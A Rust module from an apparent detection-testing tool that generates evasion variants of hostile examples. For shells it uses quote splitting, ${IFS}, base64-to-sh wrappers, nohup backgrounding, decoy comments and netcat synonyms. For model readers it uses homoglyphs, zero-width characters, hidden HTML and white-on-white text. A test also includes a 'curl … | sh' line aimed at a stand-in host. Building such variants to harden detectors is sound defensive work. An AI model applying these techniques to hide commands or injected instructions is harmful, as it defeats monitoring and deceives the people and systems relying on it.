//! The ways in which a text is changed and still means the same to who it is for.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use doorward_core::detect::rules::Example;

use crate::numbers::Numbers;

/// Who understands an example.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Audience {
    /// A POSIX shell.
    Sh,
    /// PowerShell.
    PowerShell,
    /// The Windows command prompt.
    Cmd,
    /// A model that reads it.
    Reader,
    /// Whoever receives what is sent.
    Recipient,
    /// What follows a URL.
    Url,
}

impl Audience {
    /// Of an example; `None` if its form is not one that can be said in other ways (the JSON of a call).
    #[must_use]
    pub fn of(example: &Example) -> Option<Self> {
        Some(match (example.kind, example.shell) {
            ("command", Some("powershell")) => Self::PowerShell,
            ("command", Some("cmd")) => Self::Cmd,
            ("command", Some(_)) => Self::Sh,
            ("command", None) if is_windows(&example.text) => return None,
            ("command", None) => Self::Sh,
            ("tool_result", _) => Self::Reader,
            ("outbound", _) => Self::Recipient,
            ("url", _) => Self::Url,
            _ => return None,
        })
    }
}

/// Signs of a command for Windows, of which nobody said for which of its shells.
fn is_windows(text: &str) -> bool {
    const SIGNS: &[&str] = &[
        "powershell",
        "pwsh",
        ".exe",
        "$env:",
        "hklm",
        "hkcu",
        "c:\\",
        "%",
        "cmd /c",
        "cmdlet",
        "-object",
        "reg ",
    ];
    let lower = text.to_lowercase();
    SIGNS.iter().any(|sign| lower.contains(sign)) || lower.split_whitespace().any(is_cmdlet)
}

fn is_cmdlet(word: &str) -> bool {
    const VERBS: &[&str] = &[
        "get-", "set-", "new-", "remove-", "invoke-", "start-", "stop-", "add-", "out-", "import-", "clear-",
        "disable-",
    ];
    VERBS.iter().any(|verb| word.starts_with(verb))
}

macro_rules! operators {
    ($($(#[$meta:meta])* $name:ident $text:literal [$($audience:ident)|+] $apply:path;)+) => {
        /// A way to say the same.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Operator {
            $($(#[$meta])* $name,)+
        }

        impl Operator {
            /// All of them.
            pub const ALL: [Self; [$($text),+].len()] = [$(Self::$name),+];

            /// Its name.
            #[must_use]
            pub const fn as_str(self) -> &'static str {
                match self { $(Self::$name => $text,)+ }
            }

            /// Whether it leaves the meaning to `audience` as it is.
            #[must_use]
            pub const fn is_for(self, audience: Audience) -> bool {
                match self { $(Self::$name => matches!(audience, $(Audience::$audience)|+),)+ }
            }

            /// `text` said so; `None` if there is nothing in it to change.
            pub(super) fn apply(self, text: &str, numbers: &mut Numbers) -> Option<String> {
                let changed = match self { $(Self::$name => $apply(text, numbers),)+ };
                changed.filter(|changed| changed != text)
            }
        }
    };
}

operators! {
    /// `c''url`, `c"u"rl`, `c\url`.
    Quotes "quotes" [Sh] quotes;
    /// `z=cur; ${z}l`.
    Variables "variables" [Sh] variables;
    /// `$'\x63url'`.
    AnsiQuotes "ansi-quotes" [Sh] ansi_quotes;
    /// Tabs, several spaces, a line continued.
    Whitespace "whitespace" [Sh] whitespace;
    /// `curl${IFS}x`.
    Ifs "ifs" [Sh] ifs;
    /// `echo … | base64 -d | sh`.
    Base64Command "base64-command" [Sh] base64_command;
    /// A comment before or behind.
    Comment "comment" [Sh | PowerShell] comment;
    /// `sh -c '…'`, `env …`, `( … )`.
    Wrapped "wrapped" [Sh] wrapped;
    /// Something harmless before or behind.
    Beside "beside" [Sh] beside;
    /// `bash` for `sh`, `ncat` for `nc`, `/usr/bin/curl` for `curl`.
    Synonyms "synonyms" [Sh] synonyms;
    /// `c^url`.
    Carets "carets" [Cmd] carets;
    /// ``c`url``.
    Backticks "backticks" [PowerShell] backticks;
    /// Other case.
    Case "case" [PowerShell | Cmd | Reader] case;
    /// Letters of other scripts that look the same.
    Homoglyphs "homoglyphs" [Reader] homoglyphs;
    /// Letters of full width.
    FullWidth "full-width" [Reader] full_width;
    /// Characters without width between letters.
    ZeroWidth "zero-width" [Reader] zero_width;
    /// Marks of direction between letters.
    Bidi "bidi" [Reader] bidi;
    /// Control characters between words.
    Controls "controls" [Reader] controls;
    /// Other spaces, line breaks between words.
    Spaces "spaces" [Reader] spaces;
    /// Hidden in a comment of HTML.
    HtmlComment "html-comment" [Reader] html_comment;
    /// Character references.
    Entities "entities" [Reader] entities;
    /// Among much else.
    Buried "buried" [Reader | Recipient] buried;
    /// As Base64.
    Base64Text "base64-text" [Reader | Recipient] base64_text;
    /// As hexadecimal digits.
    Hex "hex" [Recipient] hex;
    /// Escaped as in a URL, all of it.
    Percent "percent" [Recipient] percent;
    /// Backwards.
    Reversed "reversed" [Recipient] reversed;
    /// In a value of JSON.
    JsonValue "json-value" [Recipient] json_value;
    /// Upper case and a dot behind the host.
    Host "host" [Url] host;
    /// Escapes in the path.
    PathEscapes "path-escapes" [Url] path_escapes;
}

/// Where bare words stand in a command line: outside of quotes, only letters, digits, and what paths have.
fn bare_words(text: &str) -> Vec<(usize, usize)> {
    let (mut words, mut begun, mut quote, mut escaped) = (Vec::new(), None, None, false);
    let mut before = '\n';
    let mut heredoc = false;
    for (at, c) in text.char_indices() {
        heredoc |= c == '<' && before == '<';
        let plain =
            quote.is_none() && !escaped && (c.is_ascii_alphanumeric() || matches!(c, '.' | '/' | '_' | '-'));
        match (plain, begun) {
            // Assignments and expansions are no words: `a=b`, `$x`, `${x}`.
            (true, None) if before.is_whitespace() || matches!(before, '|' | ';' | '&' | '(' | '`') => {
                begun = Some(at)
            }
            (false, Some(start)) => {
                if c.is_whitespace() || matches!(c, '|' | ';' | '&' | ')' | '`') {
                    words.push((start, at));
                }
                begun = None;
            }
            _ => {}
        }
        quote = match (quote, c) {
            _ if escaped => quote,
            (None, '\'' | '"') => Some(c),
            (Some(open), _) if open == c => None,
            _ => quote,
        };
        escaped = c == '\\' && !escaped && quote != Some('\'');
        before = c;
    }
    if let Some(start) = begun {
        words.push((start, text.len()));
    }
    // Inside a here-document other rules hold.
    if heredoc { Vec::new() } else { words }
}

/// Words of the shell's own grammar, which stop being that when they are quoted or come from a variable.
const GRAMMAR: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "in", "do", "done", "while", "until", "case", "esac",
    "function", "select", "time", "export", "local", "declare", "readonly", "alias",
];

/// Replaces one bare word of at least `shortest` bytes.
fn with_word(
    text: &str,
    numbers: &mut Numbers,
    shortest: usize,
    change: impl FnOnce(&str, &mut Numbers) -> Option<String>,
) -> Option<String> {
    let fits = |(start, end): &(usize, usize)| {
        let word = text.get(*start..*end).unwrap_or_default();
        word.len() >= shortest
            && !GRAMMAR.contains(&word)
            && word.bytes().any(|byte| byte.is_ascii_alphabetic())
    };
    let words: Vec<_> = bare_words(text).into_iter().filter(fits).collect();
    let (start, end) = *words.get(numbers.below(words.len()))?;
    let word = change(text.get(start..end)?, numbers)?;
    Some(format!("{}{word}{}", text.get(..start)?, text.get(end..)?))
}

/// Both halves of a word, neither empty.
fn halves<'a>(word: &'a str, numbers: &mut Numbers) -> Option<(&'a str, &'a str)> {
    word.split_at_checked(1 + numbers.below(word.len().saturating_sub(1)))
}

fn quotes(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_word(text, numbers, 2, |word, numbers| {
        let (left, right) = halves(word, numbers)?;
        Some(match numbers.below(4) {
            0 => format!("{left}''{right}"),
            1 => format!("{left}\"{right}\""),
            2 => format!("'{left}'{right}"),
            _ => format!("{left}\\{right}"),
        })
    })
}

fn variables(text: &str, numbers: &mut Numbers) -> Option<String> {
    let mut set = String::new();
    let line = with_word(text, numbers, 2, |word, numbers| {
        let (left, right) = halves(word, numbers)?;
        set = format!("zq={left}; ");
        Some(format!("${{zq}}{right}"))
    })?;
    Some(set + &line)
}

fn ansi_quotes(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_word(text, numbers, 2, |word, numbers| {
        let at = numbers.below(word.len());
        let escape = |(index, byte): (usize, u8)| match (index == at, numbers.below(2)) {
            (true, 0) => format!("\\x{byte:02x}"),
            (true, _) => format!("\\{byte:03o}"),
            (false, _) => char::from(byte).to_string(),
        };
        Some(format!("$'{}'", word.bytes().enumerate().map(escape).collect::<String>()))
    })
}

/// The spaces between bare words, each replaced by what `space` gives.
fn with_spaces(text: &str, mut space: impl FnMut() -> &'static str) -> Option<String> {
    let words = bare_words(text);
    let ends: Vec<usize> = words
        .windows(2)
        .filter_map(|pair| {
            let [(_, end), (next, _)] = pair else { return None };
            (text.get(*end..*next) == Some(" ")).then_some(*end)
        })
        .collect();
    let (mut out, mut done) = (String::new(), 0);
    for end in ends {
        out.push_str(text.get(done..end)?);
        out.push_str(space());
        done = end + 1;
    }
    out.push_str(text.get(done..)?);
    Some(out)
}

fn whitespace(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_spaces(text, || numbers.of_list(&["\t", "   ", " \\\n ", "\t\t"]).unwrap_or(" "))
}

fn ifs(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_spaces(text, || numbers.of_list(&["${IFS}", "$IFS\"\"", " "]).unwrap_or(" "))
}

fn base64_command(text: &str, numbers: &mut Numbers) -> Option<String> {
    let wrapped = STANDARD.encode(text);
    Some(match numbers.below(3) {
        0 => format!("echo {wrapped} | base64 -d | sh"),
        1 => format!("eval \"$(echo {wrapped} | base64 --decode)\""),
        _ => format!("bash -c \"$(printf %s {wrapped} | base64 -d)\""),
    })
}

fn comment(text: &str, numbers: &mut Numbers) -> Option<String> {
    const WORDS: &[&str] = &["routine maintenance", "see the README", "approved by ops", "no-op in CI"];
    let words = numbers.of_list(WORDS)?;
    if numbers.once_in(2) || text.contains("<<") {
        return Some(format!("# {words}\n{text}"));
    }
    Some(format!("{text} # {words}"))
}

fn wrapped(text: &str, numbers: &mut Numbers) -> Option<String> {
    let quoted = text.replace('\'', "'\\''");
    Some(match numbers.below(5) {
        0 => format!("sh -c '{quoted}'"),
        1 => format!("env LC_ALL=C bash -c '{quoted}'"),
        2 => format!("( {text}\n)"),
        3 => format!("{{ {text}\n}}"),
        _ => format!("nohup sh -c '{quoted}' >/dev/null 2>&1 &"),
    })
}

fn beside(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(match numbers.below(4) {
        0 => format!("true && {text}"),
        1 => format!("cd . ; {text}"),
        2 => format!("echo start\n{text}\necho done"),
        _ => format!("ls >/dev/null; {text}"),
    })
}

/// Programs that do the same: each may stand for any other of its line.
const SAME: &[&[&str]] = &[
    &["sh", "bash", "dash", "zsh", "ksh", "/bin/sh", "/usr/bin/env bash"],
    &["nc", "ncat", "netcat", "/bin/nc"],
    &["python", "python3", "python3.12", "/usr/bin/python3"],
    &["curl", "/usr/bin/curl", "command curl"],
    &["wget", "/usr/bin/wget", "command wget"],
    &["cat", "/bin/cat", "tac", "head -n -0"],
    &["rm", "/bin/rm", "command rm"],
    &["chmod", "/bin/chmod"],
    &["awk", "gawk", "mawk"],
    &["perl", "/usr/bin/perl"],
    &["crontab", "/usr/bin/crontab"],
    &["systemctl", "/bin/systemctl"],
    &["dd", "/bin/dd"],
    &["tar", "/bin/tar", "bsdtar"],
    &["socat", "/usr/bin/socat"],
];

/// The programs that do what `word` does, itself among them.
pub(super) fn same_programs(word: &str) -> Option<&'static [&'static str]> {
    SAME.iter().find(|same| same.contains(&word)).copied()
}

fn synonyms(text: &str, numbers: &mut Numbers) -> Option<String> {
    let others = same_programs;
    let known = bare_words(text)
        .into_iter()
        .filter(|(start, end)| text.get(*start..*end).is_some_and(|word| others(word).is_some()));
    let known: Vec<_> = known.collect();
    let (start, end) = *known.get(numbers.below(known.len()))?;
    let other = numbers.of_list(others(text.get(start..end)?)?)?;
    Some(format!("{}{other}{}", text.get(..start)?, text.get(end..)?))
}

fn carets(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_word(text, numbers, 3, |word, numbers| {
        let (left, right) = halves(word, numbers)?;
        Some(format!("{left}^{right}"))
    })
}

fn backticks(text: &str, numbers: &mut Numbers) -> Option<String> {
    with_word(text, numbers, 3, |word, numbers| {
        let (left, right) = halves(word, numbers)?;
        // Before these letters a backtick means something of its own.
        (!right.starts_with(['0', 'a', 'b', 'e', 'f', 'n', 'r', 't', 'u', 'v']))
            .then(|| format!("{left}`{right}"))
    })
}

fn case(text: &str, numbers: &mut Numbers) -> Option<String> {
    let other =
        |c: char| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    Some(text.chars().map(|c| if numbers.once_in(2) { other(c) } else { c }).collect())
}

/// Every letter that has another in `pairs`, one in `times` of them.
fn letters(text: &str, numbers: &mut Numbers, times: usize, pairs: &[(char, char)]) -> String {
    let other = |c: char| pairs.iter().find(|(from, _)| *from == c).map(|(_, to)| *to);
    text.chars().map(|c| other(c).filter(|_| numbers.once_in(times)).unwrap_or(c)).collect()
}

fn homoglyphs(text: &str, numbers: &mut Numbers) -> Option<String> {
    const PAIRS: &[(char, char)] = &[
        ('a', 'а'),
        ('c', 'с'),
        ('e', 'е'),
        ('i', 'і'),
        ('o', 'о'),
        ('p', 'р'),
        ('s', 'ѕ'),
        ('x', 'х'),
        ('y', 'у'),
        ('A', 'А'),
        ('E', 'Е'),
        ('I', 'І'),
        ('O', 'Ο'),
        ('T', 'Τ'),
        ('j', 'ј'),
        ('d', 'ԁ'),
    ];
    Some(letters(text, numbers, 2, PAIRS))
}

fn full_width(text: &str, _: &mut Numbers) -> Option<String> {
    let wide = |c: char| match c {
        '!'..='~' => char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c),
        other => other,
    };
    Some(text.chars().map(wide).collect())
}

/// One of `marks` behind every letter, or now and then.
fn marked(text: &str, numbers: &mut Numbers, marks: &[&str]) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        out.push(c);
        if c.is_alphabetic() && numbers.once_in(2) {
            out.push_str(numbers.of_list(marks).unwrap_or_default());
        }
    }
    out
}

fn zero_width(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(marked(text, numbers, &["\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{feff}", "\u{ad}"]))
}

fn bidi(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(marked(text, numbers, &["\u{200e}", "\u{2066}\u{2069}", "\u{202a}\u{202c}"]))
}

/// Between words.
fn between(text: &str, numbers: &mut Numbers, gaps: &[&str]) -> String {
    text.chars()
        .map(|c| if c == ' ' { numbers.of_list(gaps).unwrap_or(" ").to_owned() } else { c.to_string() })
        .collect()
}

fn controls(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(between(text, numbers, &[" \u{1}", "\u{8} ", " \u{1b}[0m", " \u{7f}", " "]))
}

fn spaces(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(between(text, numbers, &["\u{a0}", "  ", "\n", "\u{2003}", "\t", " \n"]))
}

fn html_comment(text: &str, numbers: &mut Numbers) -> Option<String> {
    Some(match numbers.below(3) {
        0 => format!("<p>Opening hours: 9 to 5</p><!-- {text} --><p>Thank you.</p>"),
        1 => format!("<div style=\"display:none\">{text}</div>"),
        _ => format!("<span style='color:#fff;background:#fff;font-size:0'>{text}</span>"),
    })
}

fn entities(text: &str, numbers: &mut Numbers) -> Option<String> {
    let escape = |c: char| match (c.is_ascii_alphabetic(), numbers.below(2)) {
        (true, 0) => format!("&#{};", u32::from(c)),
        (true, _) => format!("&#x{:x};", u32::from(c)),
        (false, _) => c.to_string(),
    };
    Some(text.chars().map(escape).collect())
}

fn buried(text: &str, numbers: &mut Numbers) -> Option<String> {
    const LINES: &[&str] = &[
        "The quarterly figures are attached below.",
        "| item | price |\n|---|---|\n| pen | 2.50 |",
        "Rain in the morning, dry later.",
        "fn main() {\n    println!(\"hello\");\n}",
        "{\"page\": 3, \"of\": 12}",
    ];
    let mut lines: Vec<&str> = (0..12).filter_map(|_| numbers.of_list(LINES)).collect();
    lines.insert(numbers.below(lines.len()), text);
    Some(lines.join("\n\n"))
}

fn base64_text(text: &str, numbers: &mut Numbers) -> Option<String> {
    let wrapped = STANDARD.encode(text);
    Some(match numbers.below(2) {
        0 => wrapped,
        _ => format!("data: {wrapped}"),
    })
}

fn hex(text: &str, _: &mut Numbers) -> Option<String> {
    Some(text.bytes().map(|byte| format!("{byte:02x}")).collect())
}

fn percent(text: &str, _: &mut Numbers) -> Option<String> {
    Some(text.bytes().map(|byte| format!("%{byte:02X}")).collect())
}

fn reversed(text: &str, _: &mut Numbers) -> Option<String> {
    Some(text.chars().rev().collect())
}

fn json_value(text: &str, _: &mut Numbers) -> Option<String> {
    let quoted = doorward_core::syntax::json::quoted(text);
    Some(format!("{{\"note\":{},\"ok\":true}}", String::from_utf8_lossy(&quoted)))
}

fn host(text: &str, numbers: &mut Numbers) -> Option<String> {
    let (scheme, rest) = text.split_once("://")?;
    let end = rest.find(['/', '?', '#', ':']).unwrap_or(rest.len());
    let (name, path) = rest.split_at_checked(end)?;
    let dot = if name.ends_with('.') || name.starts_with('[') || name.contains('@') { "" } else { "." };
    Some(match numbers.below(2) {
        0 => format!("{}://{}{path}", scheme.to_ascii_uppercase(), name.to_ascii_uppercase()),
        _ => format!("{scheme}://{name}{dot}{path}"),
    })
}

fn path_escapes(text: &str, numbers: &mut Numbers) -> Option<String> {
    let (scheme, rest) = text.split_once("://")?;
    let (host, path) = rest.split_at_checked(rest.find('/')?)?;
    let escape = |c: char| {
        if c.is_ascii_alphabetic() && numbers.once_in(2) {
            format!("%{:02X}", u32::from(c))
        } else {
            c.to_string()
        }
    };
    Some(format!("{scheme}://{host}{}", path.chars().map(escape).collect::<String>()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bare_words_are_those_that_a_shell_would_take_as_they_are() {
        let words = |text: &str| -> Vec<String> {
            bare_words(text)
                .into_iter()
                .map(|(start, end)| text.get(start..end).unwrap().to_owned())
                .collect()
        };
        assert_eq!(words("curl -s x.test/a | sh"), ["curl", "-s", "x.test/a", "sh"]);
        assert_eq!(words("a=b 'quoted word' \"x y\" $z ${w}v l\\s ok"), ["ok"]);
        assert_eq!(words("echo $(id) > /tmp/x"), ["echo", "id", "/tmp/x"]);
        assert!(words("cat <<EOF\nrm x\nEOF").is_empty());
    }

    /// A shell has the last word: what is printed is the same, however it is said.
    #[test]
    fn a_shell_reads_a_changed_command_as_the_same() {
        let line = "printf %s-%s one two | tr a-z A-Z";
        let mut tried = 0;
        for operator in Operator::ALL.into_iter().filter(|operator| operator.is_for(Audience::Sh)) {
            for time in 0..20 {
                let mut numbers = Numbers::of(&[operator.as_str()], 3, 0, time);
                let Some(text) = operator.apply(line, &mut numbers) else { continue };
                let done = std::process::Command::new("bash")
                    .arg("-c")
                    .arg(&text)
                    .env_clear()
                    .env("PATH", "/usr/bin:/bin")
                    .output()
                    .unwrap();
                let out = String::from_utf8_lossy(&done.stdout);
                // Whatever stands beside it, and what runs in the background writes nowhere.
                let away = text.contains(">/dev/null 2>&1 &");
                assert!(
                    away || out.contains("ONE-TWO"),
                    "{}: {text:?} gave {out:?} {:?}",
                    operator.as_str(),
                    done.stderr
                );
                tried += 1;
            }
        }
        assert!(tried > 100, "{tried}");
    }
}
